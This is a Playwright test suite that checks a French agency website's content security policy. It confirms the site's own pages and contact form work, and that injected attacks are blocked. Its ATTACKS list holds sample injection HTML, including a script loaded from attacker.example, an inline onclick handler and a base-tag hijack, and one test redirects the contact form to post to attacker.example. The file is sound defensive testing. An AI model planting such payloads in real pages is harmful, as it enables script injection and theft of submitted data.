import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page, Route } from 'playwright-core';
import { describe, expect, inject, test } from 'vitest';
import { CSP, headerRules, headersOf, overHttp } from '../publish/headers/headerRules';
import { pagePolicy } from '../publish/headers/policy';
import { fileOf } from '../publish/site/pageFiles';
import { browserPerWorker } from './browser/browserPerWorker';
import {
  accept,
  answerContact,
  breakForm,
  CHUNKS,
  contactForm,
  MESSAGE,
} from './browser/contactForm';
import { watchPolicy } from './browser/policyWatch';
import { mainAddresses } from './browser/publishedPages';
import { makeGate } from './browser/waiting';
import { withoutTag } from './browser/withoutTag';

const PHONE = { viewport: { width: 375, height: 700 } };
const CRASH = 'Unexpected Application Error!';

const tabs = browserPerWorker();

async function open(address: string, prepare?: (page: Page) => Promise<unknown>) {
  const page = await tabs.newPage(PHONE);
  const refused = await watchPolicy(page);
  await prepare?.(page);
  await page.goto(address);
  return { page, refused };
}

async function openForm(answer: (route: Route) => Promise<void>) {
  const opened = await open('/contact', (page) => answerContact(page, answer));
  return { ...opened, form: contactForm(opened.page) };
}

describe('content security policy, requests of the site itself', () => {
  test('the content security policy allows the images, fonts and menu of every page', async () => {
    const { page, refused } = await open('/');
    for (const address of mainAddresses()) {
      await page.goto(address);
      await page.evaluate(async () => {
        for (const image of document.images) image.loading = 'eager';
        const pictures = [...document.images].map((image) => image.decode());
        await Promise.all([document.fonts.ready, ...pictures]);
      });
      await page.locator('header button[aria-label="Menu"]').click();
      await page.getByRole('navigation', { name: 'Menu principal' }).waitFor();
      expect({ address, refused }).toEqual({ address, refused: [] });
    }
  });

  test('the content security policy allows the contact form to report errors, to send, and to close its toast', async () => {
    const gate = makeGate();
    const { page, refused, form } = await openForm(async (route) => {
      await gate.opened;
      await accept(route);
    });
    await form.fill({ ...MESSAGE, email: 'zoe', phone: 'le soir' });
    await form.button.click();
    await page.getByText('Écrivez une adresse complète').waitFor();
    await form.fill();
    await form.button.click();
    await expect.poll(() => form.label()).toBe('Envoi en cours...');
    gate.open();
    await page.getByText('Message envoyé').waitFor();
    await page.getByRole('button', { name: 'Fermer' }).click();
    await expect.poll(() => form.announced()).toEqual({ status: '', alert: '' });
    expect(refused).toEqual([]);
  });

  test('the content security policy lets the contact form recover after a refused message and a crash', async () => {
    const { page, refused, form } = await openForm((route) => route.fulfill({ status: 503 }));
    await form.fill();
    await form.button.click();
    await page.getByText('Veuillez réessayer').waitFor();
    const fix = await breakForm(page);
    await form.button.click();
    await page.getByText(CRASH).waitFor();
    await fix();
    await page.getByRole('button', { name: 'Réessayer' }).click();
    await form.button.waitFor();
    expect(refused).toEqual([]);
  });

  test('the content security policy allows a page to report that the code of the contact form did not load', async () => {
    const { page, refused } = await open('/contact', (opened) =>
      opened.route(CHUNKS, (route) => route.abort()),
    );
    const form = contactForm(page);
    await form.fill();
    await form.button.click();
    await page.getByText(CRASH).waitFor();
    expect(refused).toEqual([]);
  });

  test('the content security policy allows the portfolio filter to show all, some or no items', async () => {
    const { page, refused } = await open('/realisations', (opened) =>
      withoutTag(opened, 'Campagnes'),
    );
    for (const tag of ['Branding', 'Social', 'Campagnes'])
      await page.getByRole('button', { name: tag }).click();
    await page.getByText('Aucune réalisation ne correspond').waitFor();
    await page.getByRole('button', { name: 'Tous' }).click();
    await expect.poll(() => page.locator('main article, main li a').count()).toBeGreaterThan(3);
    expect(refused).toEqual([]);
  });
});

/** HTML that an attacker might write into a page, and the directive of the policy that blocks it. */
const ATTACKS: readonly (readonly [directive: string, html: string])[] = [
  ['script-src-elem', '<script>document.title = "attacked"</script>'],
  ['script-src-elem', '<script src="https://attacker.example/a.js"></script>'],
  ['script-src-attr', '<a href="#" id="attacked" onclick="document.title = this.id">a</a>'],
  ['style-src-elem', '<style>body { display: none }</style>'],
  ['style-src-attr', '<p style="display: none">a</p>'],
  ['img-src', '<img alt="" src="https://attacker.example/a.png">'],
  ['frame-src', '<iframe src="https://attacker.example/"></iframe>'],
  ['base-uri', '<base href="https://attacker.example/">'],
];

/** How a host may send the policy. If it sends both, each has the same effect as alone. */
const HOSTS = [
  ['only in the page', { header: false, meta: true }],
  // On a site with the editor, which writes styles, the header does not limit styles; the pages' own policy does.
  ['only in the header, on a site without the editor', { header: true, meta: false }],
] as const;

/** Returns the policy in the header of this site if it is built with `ATELIER=0`. */
function strictHeader(): string {
  const policies = inject('siteAddresses').map((address) =>
    pagePolicy(readFileSync(join(inject('siteFolder'), fileOf(address)), 'utf8')),
  );
  return overHttp(headersOf(headerRules(policies, ''), '/'))[CSP] ?? '';
}

describe.each(HOSTS)('policy against attacks, sent %s', (_where, { header, meta }) => {
  async function attack(address: string) {
    return open(address, (page) =>
      page.route(`**${address}`, async (route) => {
        const response = await route.fetch();
        const { 'content-security-policy': _, ...headers } = response.headers();
        const html = await response.text();
        const attacks = ATTACKS.map(([, text]) => text).join('');
        const attacked = (meta ? html : html.replace(/<meta http-equiv[^>]*>/, '')).replace(
          '</main>',
          `${attacks}</main>`,
        );
        expect(attacked.length).not.toBe(html.length);
        await route.fulfill({
          status: 200,
          body: attacked,
          headers: header ? { ...headers, 'content-security-policy': strictHeader() } : headers,
        });
      }),
    );
  }

  test.each(['/', '/contact'])(
    'the content security policy blocks code that an attacker has put into the page %s',
    async (address) => {
      const { page, refused } = await attack(address);
      await page.locator('#attacked').click();
      for (const [directive] of ATTACKS)
        await expect.poll(() => refused.join()).toContain(`${directive} `);
      expect(await page.title()).not.toBe('attacked');
      expect(await page.locator('body').isVisible()).toBe(true);
      expect(await page.evaluate(() => document.baseURI)).toContain(inject('siteUrl'));
    },
  );

  test('the content security policy blocks code made from text, and forms that post to another site', async () => {
    const { page, refused } = await attack('/contact');
    const thrown = await page.evaluate(() => {
      const acts = [
        () => {
          document.body.innerHTML = '<p>attacked</p>';
        },
        () => {
          document.createElement('script').text = 'document.title = "attacked"';
        },
        () => setTimeout('document.title = "attacked"'),
      ];
      return acts.map((act) => {
        try {
          act();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : 'unknown';
        }
      });
    });
    expect(thrown).toEqual(['TypeError', 'TypeError', 'TypeError']);
    await contactForm(page).fill();
    await page.evaluate(() => {
      const own = document.querySelector<HTMLFormElement>('main form');
      if (own) own.action = 'https://attacker.example/';
      own?.submit();
    });
    await expect.poll(() => refused.join()).toContain('form-action https://attacker.example');
  });
});

test('the content security policy forbids other sites to show a page in a frame', async () => {
  const page = await tabs.newPage();
  await page.setContent(`<iframe src="${inject('siteUrl')}/contact"></iframe>`);
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
});
